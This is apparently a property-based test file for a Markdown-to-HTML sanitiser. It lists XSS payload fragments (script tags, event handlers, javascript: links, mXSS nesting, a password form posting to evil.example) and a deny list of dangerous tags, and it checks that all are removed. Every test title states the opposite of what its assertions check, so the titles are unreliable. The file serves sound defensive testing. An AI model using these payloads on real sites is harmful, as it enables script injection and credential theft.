// @vitest-environment jsdom
import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { toSafeHtml } from "./to-safe-html.ts"

const parsed = (markdown: string) => {
  const holder = document.createElement("div")
  holder.innerHTML = toSafeHtml(markdown)
  return holder
}

const forbidden = [
  ..."script style iframe object embed form link meta base svg math video audio button textarea".split(" "),
  ...["[style]", "[id]", "[name]", "[class]", "[srcset]", "[ping]"],
  ...["[onerror]", "[onload]", "[onclick]", "[onmouseover]", "[ontoggle]", "[onfocus]"],
]

/** What an attacker would put together; the sanitiser must cope with any order and nesting of it. */
const pieces = [
  "<script>x()</script>",
  "<img src=x onerror=x()>",
  "![p](http://evil.example/p.png)",
  "<svg onload=x()><style>",
  "<math><mtext><table><mglyph><style><!--</style>",
  "<a href='java\nscript:x()'>",
  "[l](javascript:x())",
  "[d](data:text/html,<script>x()</script>)",
  "<form action=//evil.example><input name=password autofocus>",
  "<iframe srcdoc='<script>x()</script>'>",
  "<div style='position:fixed' id=root class=page>",
  "<details open ontoggle=x()>",
  "<p>",
  "</p>",
  "<!--",
  "-->",
  "`",
  "```\n",
  "> ",
  "\n\n",
  "**bold**",
  "&lt;b&gt;",
]

describe("formatted text", () => {
  test("keeps a script, a handler, a style or a foreign address, whatever it is put together of", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 8 }), (parts) => {
        const page = parsed(parts.join(""))
        for (const selector of forbidden) expect(page.querySelector(selector), selector).toBeNull()
        for (const link of page.querySelectorAll("a[href]"))
          expect(link.getAttribute("href")).toMatch(/^(https?:|mailto:|[^a-z])/i)
        for (const image of page.querySelectorAll("img"))
          expect(image.getAttribute("src")).toMatch(/^data:image\//)
      }),
      { numRuns: 100 },
    )
  })

  test("loses what people write: headings, lists, tables, code, task lists, images of its own", () => {
    const page = parsed(
      [
        "# Title",
        "- one\n- [x] done",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```py\nprint('<b>')\n```",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "[link](https://example.org)",
      ].join("\n\n"),
    )
    expect(page.querySelector("h3")?.textContent).toBe("Title")
    expect(page.querySelectorAll("li")).toHaveLength(2)
    expect(page.querySelector<HTMLInputElement>("input[type=checkbox]")?.disabled).toBe(true)
    expect(page.querySelectorAll("td")).toHaveLength(2)
    expect(page.querySelector("pre")?.textContent).toContain("print('<b>')")
    expect(page.querySelector("img")?.getAttribute("alt")).toBe("dot")
    expect(page.querySelector("a")?.rel).toBe("noopener noreferrer nofollow")
  })

  test("fetches a picture from elsewhere, or hides that there is one", () => {
    const page = parsed("![a cat](https://example.org/cat.png)")
    expect(page.querySelector("img")).toBeNull()
    expect(page.textContent).toContain("Remote image not loaded: a cat")
  })
})
